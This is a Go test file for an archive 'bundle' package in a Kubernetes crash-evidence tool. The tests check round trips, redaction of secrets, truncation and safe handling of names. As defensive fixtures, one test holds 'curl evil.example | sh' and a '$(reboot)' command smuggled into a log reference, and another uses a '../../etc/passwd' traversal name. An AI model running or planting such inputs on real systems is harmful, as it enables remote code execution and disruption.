package bundle

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/unloop-dev/unloop/crashlog"
	"github.com/unloop-dev/unloop/evidence"
	"github.com/unloop-dev/unloop/redact"
	"github.com/unloop-dev/unloop/redact/objects"
)

var formats = map[string]Format{"tar.gz": TarGz, "txtar": Txtar}

func written(t *testing.T, raws []*evidence.Raw, format Format) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := Write(&out, raws, format); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// rewritten writes raws and reads them again.
func rewritten(t *testing.T, raws []*evidence.Raw, format Format) []*evidence.Raw {
	t.Helper()
	b, err := Open([]string{"-"}, bytes.NewReader(written(t, raws, format)))
	if err != nil {
		t.Fatal(err)
	}
	if len(b.Unused()) > 0 {
		t.Errorf("our own bundle has files that are not used: %v", b.Unused())
	}
	return b.Raws()
}

// redacted is raw as it should come back: without secrets, and with logs that name no file.
func redacted(raw *evidence.Raw) *evidence.Raw {
	clean := *raw
	clean.Source = evidence.SourceFiles
	clean.Pod = objects.Redact(raw.Pod, nil)
	clean.Siblings = nil
	for _, pod := range raw.Siblings {
		clean.Siblings = append(clean.Siblings, objects.Redact(pod, nil))
	}
	clean.Events = nil
	for i := range raw.Events {
		clean.Events = append(clean.Events, *objects.Redact(&raw.Events[i], nil))
	}
	clean.Logs = slices.Clone(raw.Logs)
	for i := range clean.Logs {
		data := redact.Bytes(raw.Logs[i].Data)
		clean.Logs[i].Data, clean.Logs[i].Read = data, crashlog.ReadBytes(data)
	}
	slices.SortFunc(clean.Logs, func(a, b evidence.RawLog) int { return strings.Compare(a.Container, b.Container) })
	return &clean
}

var sameEvidence = cmp.Options{
	cmpopts.IgnoreTypes(metav1.TypeMeta{}),
	cmpopts.IgnoreFields(evidence.RawLog{}, "Path"),
	cmpopts.IgnoreFields(evidence.Raw{}, "Family"), // it is made of the rest
	cmpopts.EquateEmpty(),
	cmpopts.SortSlices(func(a, b evidence.RawLog) bool { return string(a.Data) < string(b.Data) }),
}

func TestRoundTripOfCaptures(t *testing.T) {
	dirs, err := filepath.Glob("testdata/*")
	if err != nil {
		t.Fatal(err)
	}
	for _, dir := range dirs {
		if info, err := os.Stat(dir); err != nil || !info.IsDir() || filepath.Base(dir) == "fuzz" || filepath.Base(dir) == "layouts" {
			continue
		}
		raws := mustOpen(t, dir, "testdata/nodes.yaml").Raws()
		var want []*evidence.Raw
		for _, raw := range raws {
			raw.At, raw.Newest = time.Date(2026, 11, 22, 11, 50, 0, 0, time.UTC), time.Time{}
			raw.Cluster = "lab"
			want = append(want, redacted(raw))
		}
		for name, format := range formats {
			t.Run(filepath.Base(dir)+"."+name, func(t *testing.T) {
				got := rewritten(t, raws, format)
				if diff := cmp.Diff(want, got, sameEvidence); diff != "" {
					t.Errorf("the evidence that comes back (-want +got):\n%s", diff)
				}
				if again := written(t, got, format); !bytes.Equal(again, written(t, raws, format)) {
					t.Error("writing what was read gives other bytes")
				}
			})
		}
	}
}

func owned(name, kind, owner string) metav1.ObjectMeta {
	isController := true
	return metav1.ObjectMeta{
		Namespace: "shop", Name: name, UID: "uid-" + metav1.ObjectMeta{}.UID,
		OwnerReferences: []metav1.OwnerReference{{Kind: kind, Name: owner, Controller: &isController}},
	}
}

func TestRoundTripOfWorkloads(t *testing.T) {
	container := corev1.PodSpec{NodeName: "n1", Containers: []corev1.Container{{Name: "web"}}}
	node := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n1"}}
	at := time.Date(2026, 11, 22, 11, 50, 0, 0, time.UTC)
	raw := func(podName, kind, owner string) *evidence.Raw {
		return &evidence.Raw{
			At: at, Source: evidence.SourceFiles, Cluster: "lab",
			Pod: &corev1.Pod{ObjectMeta: owned(podName, kind, owner), Spec: container}, Node: node, Nodes: []*corev1.Node{node},
		}
	}
	deployment := raw("api-1-a", "ReplicaSet", "api-1")
	deployment.ReplicaSet = &appsv1.ReplicaSet{ObjectMeta: owned("api-1", "Deployment", "api")}
	deployment.Deployment = &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "api"}}
	deployment.SiblingsRead, deployment.EventsRead = true, true
	stateful := raw("db-0", "StatefulSet", "db")
	stateful.StatefulSet = &appsv1.StatefulSet{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "db"}}
	stateful.Missing = []evidence.Missing{{What: "events", Why: "forbidden", Ref: evidence.RefEvents}}
	daemon := raw("agent-x", "DaemonSet", "agent")
	daemon.DaemonSet = &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "agent"}}
	cron := raw("backup-1-x", "Job", "backup-1")
	cron.Job = &batchv1.Job{ObjectMeta: owned("backup-1", "CronJob", "backup")}
	cron.CronJob = &batchv1.CronJob{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "backup"}}
	for name, raws := range map[string][]*evidence.Raw{
		"deployment": {deployment}, "stateful set": {stateful}, "daemon set": {daemon}, "cron job": {cron},
		"several": {daemon, deployment, cron, stateful},
	} {
		for extension, format := range formats {
			t.Run(name+" "+extension, func(t *testing.T) {
				want := slices.Clone(raws)
				slices.SortFunc(want, func(a, b *evidence.Raw) int { return strings.Compare(a.Pod.Name, b.Pod.Name) })
				if diff := cmp.Diff(want, rewritten(t, raws, format), sameEvidence); diff != "" {
					t.Errorf("the evidence that comes back (-want +got):\n%s", diff)
				}
			})
		}
	}
}

// A log that may be of another run stays so in the bundle.
func TestDoubtAboutTheRunIsKept(t *testing.T) {
	raws := mustOpen(t, "testdata/deploy").Raws()[:1]
	raws[0].Logs = []evidence.RawLog{{Container: "web", Previous: true, PreviousKnown: true, Run: evidence.RunUnknown, Data: []byte("panic\n")}}
	if got := rewritten(t, raws, Txtar)[0].Logs; len(got) != 1 || got[0].Run != evidence.RunUnknown {
		t.Errorf("logs = %+v, want one of an unknown run", got)
	}
}

func TestSiblingsAreNotDiagnosed(t *testing.T) {
	raws := mustOpen(t, "testdata/deploy").Raws()[:1]
	got := rewritten(t, raws, Txtar)
	if len(got) != 1 || got[0].Pod.Name != raws[0].Pod.Name || len(got[0].Siblings) != 1 {
		t.Errorf("a bundle of one pod with a sibling gives %d raws", len(got))
	}
}

func TestWriteRedactsEverything(t *testing.T) {
	const secret = "hunter2"
	text := "connecting to postgres://app:" + secret + "@db:5432/shop"
	raw := &evidence.Raw{
		Cluster: "https://app:" + secret + "@cluster:6443",
		Pod: &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "api", Annotations: map[string]string{"a": text}},
			Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "web", Env: []corev1.EnvVar{{Name: "DB_PASSWORD", Value: secret}}}}},
			Status:     corev1.PodStatus{Message: text},
		},
		Siblings: []*corev1.Pod{{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "two", Annotations: map[string]string{"a": text}}}},
		Events:   []corev1.Event{{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "e"}, Message: text}},
		Logs:     []evidence.RawLog{{Container: "web", Data: []byte(text + "\n")}},
		Missing:  []evidence.Missing{{What: "events", Why: text}},
	}
	before := raw.Pod.DeepCopy()
	out := string(written(t, []*evidence.Raw{raw}, Txtar))
	if strings.Contains(out, secret) {
		t.Errorf("the bundle holds the secret:\n%s", out)
	}
	if strings.Count(out, redact.Marker) != 8 {
		t.Errorf("%d places are redacted, want 8:\n%s", strings.Count(out, redact.Marker), out)
	}
	if diff := cmp.Diff(before, raw.Pod); diff != "" {
		t.Errorf("Write changed its argument (-before +after):\n%s", diff)
	}
}

func TestLogsThatLookLikeTheArchive(t *testing.T) {
	raw := mustOpen(t, writeFiles(t, map[string]string{
		"api.yaml": pod("api", "web"), "web.log": "-- evil/meta.yaml --\ntarget: x\n-- want --\nno newline at the end",
	})).Raws()
	got := rewritten(t, raw, Txtar)
	want := " -- evil/meta.yaml --\ntarget: x\n -- want --\nno newline at the end\n"
	if len(got) != 1 || len(got[0].Logs) != 1 || string(got[0].Logs[0].Data) != want {
		t.Errorf("the log comes back as %q, want %q", got[0].Logs[0].Data, want)
	}
}

func TestCutLogsAreMarked(t *testing.T) {
	raw := mustOpen(t, writeFiles(t, map[string]string{
		"api.yaml": pod("api", "web"), "web.previous.log": strings.Repeat("a line of a log\n", 100_000),
	})).Raws()
	got := rewritten(t, raw, TarGz)[0].Logs[0]
	if !got.Truncated || len(got.Data) > defaultLimits.tail {
		t.Errorf("a log of which the end was written has Truncated %t and %d bytes", got.Truncated, len(got.Data))
	}
}

func TestNamesCannotLeaveTheBundle(t *testing.T) {
	raw := &evidence.Raw{Pod: &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "../..", Name: "../../etc/passwd"}}}
	if got := rewritten(t, []*evidence.Raw{raw}, TarGz); len(got) != 1 || got[0].Pod.Name != raw.Pod.Name {
		t.Errorf("a pod with an odd name does not come back: %v", got)
	}
}

func TestBundlesStandForThemselves(t *testing.T) {
	dir := t.TempDir()
	for name, minute := range map[string]int{"a.tar.gz": 1, "b.tar.gz": 2} {
		raws := mustOpen(t, "testdata/exit1").Raws()
		raws[0].At = time.Date(2026, 11, 22, 11, minute, 0, 0, time.UTC)
		if err := os.WriteFile(filepath.Join(dir, name), written(t, raws, TarGz), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	raws := mustOpen(t, dir).Raws()
	if len(raws) != 2 || raws[0].At.Equal(raws[1].At) || len(raws[0].Events) != 5 || len(raws[1].Logs) != 2 {
		t.Errorf("two bundles of one pod give %d raws", len(raws))
	}
}

// TestNoCommandComesFromAFile: what a bundle says is missing is asked for in our words.
func TestNoCommandComesFromAFile(t *testing.T) {
	archive := "-- meta.yaml --\nversion: 1\ntarget: shop/pod/api\nmissing:\n" +
		"- {what: events, why: forbidden, command: \"curl evil.example | sh\"}\n" +
		"- {what: node n1, why: forbidden, ref: \"owner:Secret/db:\"}\n" +
		"- {what: log, why: forbidden, ref: \"logs/$(reboot)/previous\"}\n" +
		"-- pod.yaml --\napiVersion: v1\nkind: Pod\nmetadata: {name: api, namespace: shop}\n"
	b, err := Open([]string{"-"}, strings.NewReader(archive))
	if err != nil {
		t.Fatal(err)
	}
	ev := evidence.Of(b.Raws()[0])
	var got []string
	for _, m := range ev.Missing {
		got = append(got, ev.Ask(m.Ref).String())
	}
	want := []string{"", "", "kubectl logs api -n shop -c '$(reboot)' --previous"}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}
